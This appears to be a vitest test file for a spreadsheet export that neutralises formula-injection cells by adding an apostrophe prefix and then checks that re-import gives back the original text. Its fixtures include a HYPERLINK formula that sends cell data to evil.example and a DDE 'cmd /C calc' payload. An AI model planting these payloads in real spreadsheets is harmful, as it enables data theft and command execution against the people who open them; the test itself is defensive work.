/**
 * “spreadsheet exports must neutralise =, +, @”: discretion.export (the one .xlsx the
 * core writes for users) prefixes text starting with = + - @ tab CR with an apostrophe, so Excel or
 * WPS never runs it as a formula; importing that export gives back the original text exactly.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { createTestCore, type TestCore } from '../testing/testCore.js';
import { neutraliseCell, restoreCell } from '../domain/spreadsheetCells.js';

let t: TestCore;
let officer: string;
let reviewer: string;
beforeAll(async () => {
  t = await createTestCore();
  officer = await t.login('officer');
  reviewer = await t.login('reviewer');
});
afterAll(async () => t.close());

const hostile = {
  name: '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
  source: "@SUM(1+1)*cmd|' /C calc'!A0",
  note: '+86 0851-12345678',
  verifyNote: '-2+3',
  // Typed in Excel as '=… : the apostrophe only says “text”, as Excel itself reads it.
  quoted: "'=已带撇号的文字",
};

async function load(base64: string): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(base64, 'base64') as unknown as ExcelJS.Buffer);
  return wb;
}

/** Every cell of every sheet: [sheet, address, value]. */
function cells(wb: ExcelJS.Workbook): Array<[string, string, unknown]> {
  const out: Array<[string, string, unknown]> = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((c) => {
        out.push([ws.name, c.address, c.value]);
      }),
    ),
  );
  return out;
}

describe('neutraliseCell / restoreCell', () => {
  it('prefixes formula starts and gives them back; other text is untouched', () => {
    for (const s of ['=1+1', '+1', '-1', '@x', '\tx', '\rx', "'=x", "''+x"]) {
      expect(neutraliseCell(s)).toBe(`'${s}`);
      expect(restoreCell(neutraliseCell(s))).toBe(s);
    }
    for (const s of ['建设项目', '1-2', "it's", "'plain", '', '0.5']) {
      expect(neutraliseCell(s)).toBe(s);
      expect(restoreCell(s)).toBe(s);
    }
  });
});

describe('discretion.export', () => {
  it('writes no cell that starts with a formula character, and the export imports back unchanged', async () => {
    // A province's table with hostile text, loaded the ordinary way.
    const shipped = await load((await t.call(officer, 'discretion.export', {})).contentBase64);
    const set = (sheet: string, row: number, header: string, value: string) => {
      const ws = shipped.getWorksheet(sheet)!;
      const headers = (ws.getRow(1).values as unknown[]).map((v) => String(v ?? ''));
      ws.getRow(row).getCell(headers.indexOf(header)).value = value;
    };
    set('基准信息', 2, '内容', 'INJ-1');
    set('基准信息', 4, '内容', hostile.source);
    set('违法行为', 2, '名称', hostile.name);
    set('违法行为', 2, '核实说明', hostile.verifyNote);
    set('违法行为', 3, '名称', hostile.quoted);
    const meta = shipped.getWorksheet('基准信息')!;
    meta.eachRow((r) => {
      if (r.getCell(1).value === '说明') r.getCell(2).value = hostile.note;
    });
    const upload = Buffer.from(await shipped.xlsx.writeBuffer()).toString('base64');
    expect(
      await t.call(reviewer, 'discretion.import', { files: [{ name: '省级表.xlsx', contentBase64: upload }] }),
    ).toMatchObject({ version: 'INJ-1', changed: true });
    const b = await t.call(officer, 'discretion.list', {});
    expect([b.violations[0]!.name, b.violations[0]!.verifyNote, b.violations[1]!.name, b.source, b.note]).toEqual([
      hostile.name,
      hostile.verifyNote,
      '=已带撇号的文字',
      hostile.source,
      hostile.note,
    ]);

    const exported = await t.call(officer, 'discretion.export', {});
    const wb = await load(exported.contentBase64);
    const all = cells(wb);
    expect(all.length).toBeGreaterThan(100);
    const dangerous = all.filter(([, , v]) => typeof v !== 'string' || /^[=+\-@\t\r]/.test(v));
    expect(dangerous).toEqual([]);
    expect(all.filter(([, , v]) => v === `'${hostile.name}`)).toHaveLength(1);

    // The round trip: the export is the same benchmark, so importing it changes nothing.
    const again = await t.call(reviewer, 'discretion.import', {
      files: [{ name: exported.fileName, contentBase64: exported.contentBase64 }],
    });
    expect(again).toMatchObject({ version: 'INJ-1', changed: false });
    const back = await t.call(officer, 'discretion.list', {});
    expect(back).toEqual(b);
  });
});
